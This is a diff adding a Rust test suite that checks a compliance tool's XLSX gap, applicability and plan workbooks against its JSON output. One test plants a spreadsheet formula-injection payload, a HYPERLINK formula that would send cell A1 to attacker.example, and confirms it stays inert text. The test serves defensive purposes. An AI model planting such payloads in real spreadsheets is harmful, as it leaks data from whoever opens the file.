@@ -1,0 +1,437 @@
+//! The XLSX workbooks, read back as a spreadsheet program would (calamine): for every example, the gap report's,
+//! the Statement of Applicability's and the plan's workbooks have the documented sheets and headers, one row per
+//! item of the JSON, and the same values; workspace text stays text, never a formula; and two runs write the same
+//! bytes.
+
+mod common;
+
+use std::collections::BTreeMap;
+use std::io::Cursor;
+
+use aims::render::xlsx::MAX_LIST_LINES;
+use calamine::{Data, Range, Reader, Xlsx, open_workbook_from_rs};
+use common::{AS_OF, aims, copy_dir};
+use serde_json::Value;
+
+const EXAMPLES: [&str; 4] = [
+    "examples/saas-ai-customer",
+    "examples/fintech-ai-provider",
+    "examples/us-federal-sample",
+    "examples/healthtech-provider",
+];
+
+const REPORT_SHEETS: [&str; 7] =
+    ["Summary", "Requirements", "Statement of Applicability", "Plan", "Systems", "Findings", "EU AI Act obligations"];
+
+fn run(args: &[&str]) -> Vec<u8> {
+    let output = aims(args);
+    assert_eq!(output.status.code(), Some(0), "{args:?}: {}", String::from_utf8_lossy(&output.stderr));
+    output.stdout
+}
+
+fn json(verb: &str, dir: &str) -> Value {
+    serde_json::from_slice(&run(&[verb, dir, "--as-of", AS_OF, "--format", "json"])).unwrap()
+}
+
+fn workbook(verb: &str, dir: &str) -> Book {
+    Book::read(run(&[verb, dir, "--as-of", AS_OF, "--format", "xlsx"]))
+}
+
+/// A workbook read back: its sheet names and each sheet's cells.
+struct Book {
+    names: Vec<String>,
+    sheets: BTreeMap<String, Range<Data>>,
+    formulas: usize,
+}
+
+impl Book {
+    fn read(bytes: Vec<u8>) -> Book {
+        assert!(bytes.starts_with(b"PK"), "an XLSX file is a zip archive");
+        let mut xlsx: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes)).expect("a workbook calamine reads");
+        let names = xlsx.sheet_names();
+        let mut sheets = BTreeMap::new();
+        let mut formulas = 0;
+        for name in &names {
+            sheets.insert(name.clone(), xlsx.worksheet_range(name).unwrap());
+            formulas += xlsx.worksheet_formula(name).unwrap().used_cells().filter(|(_, _, f)| !f.is_empty()).count();
+        }
+        Book { names, sheets, formulas }
+    }
+
+    fn sheet(&self, name: &str) -> &Range<Data> {
+        &self.sheets[name]
+    }
+
+    /// A register's header row.
+    fn header(&self, name: &str) -> Vec<String> {
+        let sheet = self.sheet(name);
+        assert_eq!(sheet.start(), Some((0, 0)), "{name} starts at A1");
+        sheet.rows().next().unwrap().iter().map(text).collect()
+    }
+
+    /// A register's rows below the header, each as header → cell.
+    fn rows(&self, name: &str) -> Vec<BTreeMap<String, Data>> {
+        let header = self.header(name);
+        self.sheet(name).rows().skip(1).map(|row| header.iter().cloned().zip(row.iter().cloned()).collect()).collect()
+    }
+
+    /// The value beside `label` in the first column of a summary sheet.
+    fn pair(&self, name: &str, label: &str) -> Data {
+        let sheet = self.sheet(name);
+        let row = sheet.rows().find(|row| text(&row[0]) == label).unwrap_or_else(|| panic!("{name}: no {label}"));
+        row[1].clone()
+    }
+}
+
+fn text(cell: &Data) -> String {
+    match cell {
+        Data::String(s) => s.clone(),
+        Data::Empty => String::new(),
+        other => panic!("not text: {other:?}"),
+    }
+}
+
+fn number(cell: &Data) -> Option<f64> {
+    match cell {
+        Data::Float(n) => Some(*n),
+        Data::Int(n) => Some(*n as f64),
+        Data::Empty => None,
+        other => panic!("not a number: {other:?}"),
+    }
+}
+
+/// How many items a list cell stands for: one per line, up to [`MAX_LIST_LINES`], and a last line `… and N more`
+/// for the rest.
+fn listed(cell: &str) -> usize {
+    let lines: Vec<&str> = if cell.is_empty() { Vec::new() } else { cell.lines().collect() };
+    match lines.last().and_then(|l| l.strip_prefix("… and ")) {
+        Some(rest) => {
+            assert_eq!(lines.len(), MAX_LIST_LINES + 1, "a list is cut only after {MAX_LIST_LINES} items");
+            let more: usize = rest.split(' ').next().unwrap().replace(',', "").parse().unwrap();
+            MAX_LIST_LINES + more
+        }
+        None => lines.len(),
+    }
+}
+
+/// A status as the workbooks write it, from the JSON key.
+fn label(status: &Value) -> &'static str {
+    match status.as_str().unwrap() {
+        "compliant" => "Compliant",
+        "partially_compliant" => "Partially compliant",
+        "non_compliant" => "Non-compliant",
+        "not_applicable" => "Not applicable",
+        "not_assessed" => "Not assessed",
+        other => panic!("unknown status {other}"),
+    }
+}
+
+fn opt_str(value: &Value) -> String {
+    value.as_str().unwrap_or_default().to_string()
+}
+
+#[test]
+fn the_gap_workbook_has_the_json_reports_values_for_every_example() {
+    for dir in EXAMPLES {
+        let report = json("gap", dir);
+        let book = workbook("gap", dir);
+        assert_eq!(book.names, REPORT_SHEETS, "{dir}");
+        assert_eq!(book.formulas, 0, "{dir}: no cell is a formula");
+
+        // Summary.
+        assert_eq!(text(&book.pair("Summary", "Organisation")), report["organisation"]["name"].as_str().unwrap());
+        assert_eq!(text(&book.pair("Summary", "As of")), AS_OF);
+        assert_eq!(number(&book.pair("Summary", "Score (%)")), report["summary"]["score"].as_f64(), "{dir}");
+        for (key, value) in report["summary"]["counts"].as_object().unwrap() {
+            let shown = number(&book.pair("Summary", label(&Value::String(key.clone()))));
+            assert_eq!(shown, value.as_f64(), "{dir}: {key}");
+        }
+        assert_eq!(number(&book.pair("Summary", "Findings")), report["summary"]["findings"].as_f64());
+        assert_eq!(text(&book.pair("Summary", "Gate")), "no gate set");
+
+        // Requirements: one row per requirement, in catalogue order.
+        let requirements = report["requirements"].as_array().unwrap();
+        let rows = book.rows("Requirements");
+        assert_eq!(rows.len(), requirements.len(), "{dir}");
+        for (row, r) in rows.iter().zip(requirements) {
+            let id = r["id"].as_str().unwrap();
+            assert_eq!(text(&row["ID"]), id);
+            assert_eq!(text(&row["Title"]), r["title"].as_str().unwrap());
+            assert_eq!(text(&row["Status"]), label(&r["status"]), "{dir} {id}");
+            assert_eq!(number(&row["Score (%)"]), r["score"].as_f64(), "{dir} {id}");
+            assert_eq!(text(&row["Owner"]), opt_str(&r["owner"]), "{dir} {id}");
+            assert_eq!(text(&row["Waived"]), if r["waived"].as_bool().unwrap() { "Yes" } else { "" });
+            let findings = r["findings"].as_array().unwrap();
+            assert_eq!(listed(&text(&row["Findings"])), findings.len(), "{dir} {id}: one finding per line");
+            let evidence = text(&row["Evidence"]);
+            let records = r["evidence"].as_array().unwrap();
+            for e in records.iter().take(MAX_LIST_LINES) {
+                let name = e["file"].as_str().or(e["register_id"].as_str()).or(e["url"].as_str());
+                if let Some(name) = name {
+                    assert!(evidence.contains(name), "{dir} {id}: {name} in {evidence}");
+                }
+            }
+            assert_eq!(!text(&row["AI systems"]).is_empty(), !r["system_counts"].is_null(), "{dir} {id}");
+        }
+
+        // Findings: one row per finding, in the report's order.
+        let findings: Vec<(&str, &Value)> = requirements
+            .iter()
+            .flat_map(|r| r["findings"].as_array().unwrap().iter().map(move |f| (r["id"].as_str().unwrap(), f)))
+            .collect();
+        let rows = book.rows("Findings");
+        assert_eq!(rows.len(), findings.len(), "{dir}");
+        assert_eq!(rows.len() as u64, report["summary"]["findings"].as_u64().unwrap());
+        for (row, (id, f)) in rows.iter().zip(&findings) {
+            assert_eq!(text(&row["Requirement"]), *id);
+            assert_eq!(text(&row["Code"]), f["code"].as_str().unwrap());
+            assert_eq!(text(&row["Severity"]), f["severity"].as_str().unwrap());
+            assert_eq!(text(&row["AI system"]), opt_str(&f["system"]));
+            assert_eq!(text(&row["File"]), opt_str(&f["location"]["file"]), "{dir} {id}");
+            let line = f["location"]["line"].as_f64().filter(|l| *l > 0.0);
+            assert_eq!(number(&row["Line"]), line, "{dir} {id}");
+        }
+
+        // Systems: every system, and its status for every per-system requirement.
+        let per_system: Vec<&Value> = requirements.iter().filter(|r| r["scope"] == "ai_system").collect();
+        let header = book.header("Systems");
+        let matrix: Vec<&str> = per_system.iter().map(|r| r["id"].as_str().unwrap()).collect();
+        assert_eq!(header[header.len() - matrix.len()..], matrix, "{dir}");
+        let rows = book.rows("Systems");
+        let systems = report["systems"].as_array().unwrap();
+        assert_eq!(rows.len(), systems.len(), "{dir}");
+        for (row, s) in rows.iter().zip(systems) {
+            let id = s["id"].as_str().unwrap();
+            assert_eq!(text(&row["ID"]), id);
+            assert_eq!(number(&row["Score (%)"]), s["score"].as_f64(), "{dir} {id}");
+            for r in &per_system {
+                let rid = r["id"].as_str().unwrap();
+                let expected = match r["systems"].as_array().unwrap().iter().find(|x| x["system"] == id) {
+                    None => "",
+                    Some(x) => match (x["status"].as_str().unwrap(), x["applicability"].as_str().unwrap()) {
+                        ("not_applicable", "not_yet_due") => "Not yet due",
+                        ("not_applicable", "retired") => "Retired",
+                        _ => label(&x["status"]),
+                    },
+                };
+                assert_eq!(text(&row[rid]), expected, "{dir} {id} {rid}");
+                if !expected.is_empty() && expected != "Not yet due" && expected != "Retired" {
+                    assert_eq!(label(&s["statuses"][rid]), expected, "{dir} {id} {rid}");
+                }
+            }
+        }
+
+        // EU AI Act obligations: the organisation's, then each system's.
+        let rows = book.rows("EU AI Act obligations");
+        let eu = &report["eu_ai_act"];
+        let mut expected: Vec<(String, &Value)> = Vec::new();
+        if !eu.is_null() {
+            expected.extend(eu["organisation"].as_array().unwrap().iter().map(|o| ("Organisation".to_string(), o)));
+            for s in eu["systems"].as_array().unwrap() {
+                let id = s["id"].as_str().unwrap().to_string();
+                expected.extend(s["obligations"].as_array().unwrap().iter().map(|o| (id.clone(), o)));
+            }
+        }
+        assert_eq!(rows.len(), expected.len(), "{dir}");
+        for (row, (applies_to, o)) in rows.iter().zip(&expected) {
+            assert_eq!(&text(&row["Applies to"]), applies_to);
+            assert_eq!(text(&row["Obligation"]), o["id"].as_str().unwrap());
+            assert_eq!(text(&row["Applies from"]), o["applies_from"].as_str().unwrap());
+            assert_eq!(number(&row["Days left"]), o["days_left"].as_f64());
+            assert_eq!(number(&row["Coverage (%)"]), o["coverage"].as_f64());
+        }
+
+        // The SoA and plan sheets are the ones of `aims soa` and `aims plan`.
+        let soa = workbook("soa", dir);
+        assert_eq!(book.sheet("Statement of Applicability"), soa.sheet("Statement of Applicability"), "{dir}");
+        let plan = workbook("plan", dir);
+        assert_eq!(book.sheet("Plan"), plan.sheet("Plan"), "{dir}");
+    }
+}
+
+#[test]
+fn the_soa_and_plan_workbooks_match_their_json_for_every_example() {
+    for dir in EXAMPLES {
+        let soa = json("soa", dir);
+        let book = workbook("soa", dir);
+        assert_eq!(book.names, ["Summary", "Statement of Applicability"], "{dir}");
+        assert_eq!(book.formulas, 0);
+        assert_eq!(number(&book.pair("Summary", "Included")), soa["included"].as_f64());
+        assert_eq!(number(&book.pair("Summary", "Excluded")), soa["excluded"].as_f64());
+        let controls = soa["controls"].as_array().unwrap();
+        let rows = book.rows("Statement of Applicability");
+        assert_eq!(rows.len(), controls.len(), "{dir}");
+        for (row, c) in rows.iter().zip(controls) {
+            let id = c["id"].as_str().unwrap();
+            assert_eq!(text(&row["Control"]), id);
+            assert_eq!(text(&row["Included"]), if c["included"].as_bool().unwrap() { "Yes" } else { "No" });
+            assert_eq!(text(&row["Status"]), label(&c["status"]), "{dir} {id}");
+            assert_eq!(text(&row["Justification"]), opt_str(&c["justification"]), "{dir} {id}");
+            assert_eq!(text(&row["Owner"]), opt_str(&c["owner"]), "{dir} {id}");
+            assert_eq!(listed(&text(&row["AI systems"])), c["systems"].as_array().unwrap().len(), "{dir} {id}");
+        }
+
+        let plan = json("plan", dir);
+        let book = workbook("plan", dir);
+        assert_eq!(book.names, ["Summary", "Plan"], "{dir}");
+        assert_eq!(book.formulas, 0);
+        assert_eq!(number(&book.pair("Summary", "Actions")), plan["actions"].as_f64());
+        assert_eq!(number(&book.pair("Summary", "Overdue")), plan["overdue"].as_f64());
+        let actions: Vec<&Value> =
+            plan["phases"].as_array().unwrap().iter().flat_map(|p| p["actions"].as_array().unwrap()).collect();
+        let rows = book.rows("Plan");
+        assert_eq!(rows.len(), actions.len(), "{dir}");
+        for (row, a) in rows.iter().zip(&actions) {
+            assert_eq!(number(&row["Rank"]), a["rank"].as_f64());
+            assert_eq!(text(&row["Action ID"]), a["id"].as_str().unwrap());
+            assert_eq!(text(&row["Requirement"]), a["requirement"].as_str().unwrap());
+            assert_eq!(text(&row["Status"]), label(&a["status"]));
+            assert_eq!(text(&row["Action"]), a["action"].as_str().unwrap());
+            assert_eq!(text(&row["Owner"]), opt_str(&a["owner"]));
+            assert_eq!(text(&row["Due date"]), opt_str(&a["due"]));
+        }
+    }
+}
+
+#[test]
+fn every_register_has_its_documented_header() {
+    let book = workbook("gap", EXAMPLES[1]);
+    assert_eq!(
+        book.header("Requirements"),
+        [
+            "ID",
+            "Type",
+            "Clause or objective",
+            "Title",
+            "Status",
+            "Score (%)",
+            "Waived",
+            "Applicability",
+            "AI systems",
+            "Owner",
+            "Evidence",
+            "Findings",
+            "Next action",
+            "Due date",
+            "Justification"
+        ]
+    );
+    assert_eq!(
+        book.header("Findings"),
+        [
+            "Requirement",
+            "Code",
+            "Severity",
+            "AI system",
+            "Message",
+            "File",
+            "Line",
+            "Evidence",
+            "Action",
+            "Waived",
+            "Requirement status"
+        ]
+    );
+    assert_eq!(
+        book.header("Systems")[..9],
+        [
+            "ID",
+            "Name",
+            "Owner",
+            "AI role",
+            "Life-cycle stage",
+            "In scope",
+            "EU AI Act classification",
+            "Score (%)",
+            "Not yet due"
+        ]
+    );
+    assert_eq!(
+        book.header("Statement of Applicability")[..5],
+        ["Control", "Objective", "Title", "Included", "Decision"]
+    );
+    assert_eq!(book.header("Plan")[..4], ["Rank", "Action ID", "Phase", "Priority"]);
+    assert_eq!(book.header("EU AI Act obligations")[..3], ["Applies to", "System name", "Obligation"]);
+}
+
+#[test]
+fn two_runs_write_the_same_bytes() {
+    for verb in ["gap", "soa", "plan"] {
+        let args = [verb, EXAMPLES[3], "--as-of", AS_OF, "--format", "xlsx"];
+        assert_eq!(run(&args), run(&args), "{verb}");
+    }
+}
+
+/// Text that a spreadsheet would run as a formula stays the text it was, in a string cell.
+#[test]
+fn workspace_text_that_looks_like_a_formula_stays_text() {
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp.path().join("ws");
+    copy_dir(std::path::Path::new(EXAMPLES[0]), &dir);
+    let hyperlink = r#"=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")"#;
+    let organisation = std::fs::read_to_string(dir.join("organisation.yaml")).unwrap();
+    let name_line = organisation.lines().find(|l| l.starts_with("name:")).unwrap();
+    let organisation = organisation.replacen(name_line, &format!("name: '{}'", hyperlink.replace('\'', "''")), 1);
+    std::fs::write(dir.join("organisation.yaml"), organisation).unwrap();
+    let assessment_file = dir.join("assessment.yaml");
+    let assessment = std::fs::read_to_string(&assessment_file).unwrap();
+    let owner_line = assessment.lines().find(|l| l.trim_start().starts_with("owner:")).unwrap().to_string();
+    let indent = &owner_line[..owner_line.len() - owner_line.trim_start().len()];
+    std::fs::write(&assessment_file, assessment.replacen(&owner_line, &format!("{indent}owner: '+1'"), 1)).unwrap();
+    let dir = dir.to_str().unwrap();
+
+    let book = workbook("gap", dir);
+    assert_eq!(book.formulas, 0, "no cell is a formula");
+    assert_eq!(book.pair("Summary", "Organisation"), Data::String(hyperlink.to_string()));
+    let rows = book.rows("Requirements");
+    assert!(rows.iter().any(|r| r["Owner"] == Data::String("+1".to_string())), "the owner `+1` is a string cell");
+    for verb in ["soa", "plan"] {
+        let book = workbook(verb, dir);
+        assert_eq!(book.formulas, 0, "{verb}");
+        assert_eq!(book.pair("Summary", "Organisation"), Data::String(hyperlink.to_string()), "{verb}");
+    }
+}
+
+#[test]
+fn the_workbook_goes_where_the_output_and_report_flags_say() {
+    let tmp = tempfile::tempdir().unwrap();
+    let (by_extension, by_report) = (tmp.path().join("report.xlsx"), tmp.path().join("also.xlsx"));
+    let report_flag = format!("xlsx={}", by_report.display());
+    run(&["gap", EXAMPLES[0], "--as-of", AS_OF, "--output", by_extension.to_str().unwrap(), "--report", &report_flag]);
+    let (a, b) = (std::fs::read(&by_extension).unwrap(), std::fs::read(&by_report).unwrap());
+    assert_eq!(a, b);
+    assert_eq!(Book::read(a).names, REPORT_SHEETS);
+    // --check compares the committed workbook's bytes.
+    let check = aims(&["gap", EXAMPLES[0], "--as-of", AS_OF, "--check", by_extension.to_str().unwrap()]);
+    assert_eq!(check.status.code(), Some(0), "{}", String::from_utf8_lossy(&check.stderr));
+    let check = aims(&["gap", EXAMPLES[0], "--as-of", "2026-12-31", "--check", by_extension.to_str().unwrap()]);
+    assert_eq!(check.status.code(), Some(1));
+    assert!(String::from_utf8_lossy(&check.stderr).contains("is out of date"));
+    // The documents pick the workbook from the extension too.
+    let soa = tmp.path().join("soa.xlsx");
+    run(&["soa", EXAMPLES[0], "--as-of", AS_OF, "--output", soa.to_str().unwrap()]);
+    assert_eq!(Book::read(std::fs::read(&soa).unwrap()).names, ["Summary", "Statement of Applicability"]);
+}
+
+/// In a large inventory a list inside a cell stops after a hundred items and says how many more there are; the
+/// Systems sheet still has every system.
+#[test]
+fn long_lists_in_a_cell_are_cut_with_a_count_and_the_systems_sheet_is_whole() {
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp.path().join("ws");
+    let generated = aims(&["generate", "150", dir.to_str().unwrap()]);
+    assert!(generated.status.success(), "{}", String::from_utf8_lossy(&generated.stderr));
+    let dir = dir.to_str().unwrap();
+    let output = aims(&["gap", dir, "--as-of", AS_OF, "--format", "json"]);
+    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
+    let book = Book::read(aims(&["gap", dir, "--as-of", AS_OF, "--format", "xlsx"]).stdout);
+    assert_eq!(book.rows("Systems").len(), 150);
+    let mut cut = 0;
+    for (row, r) in book.rows("Requirements").iter().zip(report["requirements"].as_array().unwrap()) {
+        assert_eq!(listed(&text(&row["Findings"])), r["findings"].as_array().unwrap().len(), "{}", r["id"]);
+        let evidence = text(&row["Evidence"]);
+        assert!(listed(&evidence) <= r["evidence"].as_array().unwrap().len(), "{}: each record once", r["id"]);
+        cut += usize::from(evidence.contains("\n… and "));
+    }
+    assert!(cut > 0, "some requirement lists more than {MAX_LIST_LINES} evidence records");
+}
